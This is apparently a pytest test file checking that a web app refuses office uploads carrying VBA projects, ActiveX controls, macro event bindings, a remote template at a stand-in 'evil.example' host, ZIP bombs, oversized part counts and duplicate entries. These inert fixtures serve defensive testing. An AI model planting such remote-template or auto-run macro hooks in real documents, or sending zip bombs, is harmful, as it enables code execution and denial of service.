"""Office attachments that carry code an office program could run, or that would unpack to far more than
they weigh (a ZIP bomb), are refused before anything is stored."""
from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from tests.conftest import sign_in

URL = "/modules/basics/assignment/"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT = "application/vnd.oasis.opendocument.text"


def archive(entries: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, content in entries.items():
            zf.writestr(name, content, compress_type=zipfile.ZIP_STORED if name == "mimetype" else compression)
    return buf.getvalue()


def content_types(main: str, part: str, extra: str = "") -> str:
    return (f'<?xml version="1.0"?><Types><Override PartName="/{part}" ContentType="{main}"/>{extra}</Types>')


def docx(**extra: bytes | str) -> bytes:
    return archive({"[Content_Types].xml": content_types(DOCX_MAIN, "word/document.xml"),
                    "word/document.xml": "<document/>", **extra})


def odt(content: str = "<office:document-content><office:scripts/></office:document-content>",
        **extra: bytes | str) -> bytes:
    return archive({"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": "<manifest/>", **extra})


def submit(client, data: bytes, name: str, url: str = URL):
    return client.post(url, data={"body": "My answer.", "attachment": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


def stored_files(app) -> list[str]:
    folder = Path(app.instance_path) / "uploads"
    return os.listdir(folder) if folder.is_dir() else []


REMOTE_TEMPLATE = ('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
                   'TargetMode="External"/></Relationships>')
MACRO_EVENT = ('<office:document-content><office:body><office:text><text:p><office:event-listeners>'
               '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;location=document"/>'
               '</office:event-listeners></text:p></office:text></office:body></office:document-content>')

ACTIVE = {
    "docx with a VBA project": (docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"}), "essay.docx"),
    "docx declaring a VBA part": (archive({
        "[Content_Types].xml": content_types(DOCX_MAIN, "word/document.xml", '<Default Extension="bin" '
                                             'ContentType="application/vnd.ms-office.vbaProject"/>'),
        "word/document.xml": "<document/>"}), "essay.docx"),
    "xlsx with a VBA project": (archive({"[Content_Types].xml": content_types(XLSX_MAIN, "xl/workbook.xml"),
                                         "xl/workbook.xml": "<workbook/>", "xl/VBAPROJECT.BIN": b"VBA"}), "sums.xlsx"),
    "docx with an ActiveX control": (docx(**{"word/activeX/activeX1.xml": "<ax/>"}), "essay.docx"),
    "docx with a remote template": (docx(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "essay.docx"),
    "odt with a Basic library": (odt(**{"Basic/Standard/Module1.xml": "<script:module/>"}), "essay.odt"),
    "odt with a Python script": (odt(**{"Scripts/python/run.py": "import os"}), "essay.odt"),
    "odt with an event bound to a macro": (odt(MACRO_EVENT), "essay.odt"),
}


@pytest.mark.parametrize("case", sorted(ACTIVE))
def test_office_files_with_macros_are_refused(app, client, learner, case):
    data, name = ACTIVE[case]
    client = sign_in(app, learner)
    response = submit(client, data, name)
    assert response.status_code == 422, case
    assert "macros or other code" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_ordinary_office_files_are_still_accepted(app, client, learner):
    client = sign_in(app, learner)
    picture = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    assert submit(client, docx(**{"word/media/image1.png": picture}), "essay.docx").status_code == 302
    assert submit(client, odt(), "essay.odt", url="/modules/practice/assignment/").status_code == 302


def zip_bomb() -> bytes:
    """A DOCX whose one extra part unpacks to 200 MB of zeros (about 200 KB packed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types(DOCX_MAIN, "word/document.xml"))
        zf.writestr("word/document.xml", "<document/>")
        with zf.open("word/media/padding.bin", "w", force_zip64=True) as fh:
            chunk = bytes(1024 * 1024)
            for _ in range(200):
                fh.write(chunk)
    return buf.getvalue()


def test_a_zip_bomb_is_refused_without_being_unpacked(app, client, learner, monkeypatch):
    data = zip_bomb()
    assert len(data) < 1024 * 1024
    # Reading any entry's content would unpack it: the size check must come from the directory alone.
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: pytest.fail("an entry was unpacked"))
    client = sign_in(app, learner)
    response = submit(client, data, "essay.docx")
    assert response.status_code == 422
    assert "more than 100 MB" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_an_archive_of_too_many_parts_is_refused(app, client, learner):
    parts = {f"word/media/p{i}.xml": "<p/>" for i in range(1001)}
    client = sign_in(app, learner)
    response = submit(client, docx(**parts), "essay.docx")
    assert response.status_code == 422
    assert "more than 1,000 parts" in response.get_data(as_text=True)


def test_duplicate_parts_are_refused(app, client, learner):
    """Two entries of one name: a checker may read one, an office program the other."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", content_types(DOCX_MAIN, "word/document.xml"))
        zf.writestr("word/document.xml", "<document/>")
        with pytest.warns(UserWarning):
            zf.writestr("word/document.xml", "<document>the other one</document>")
    client = sign_in(app, learner)
    assert submit(client, buf.getvalue(), "essay.docx").status_code == 422
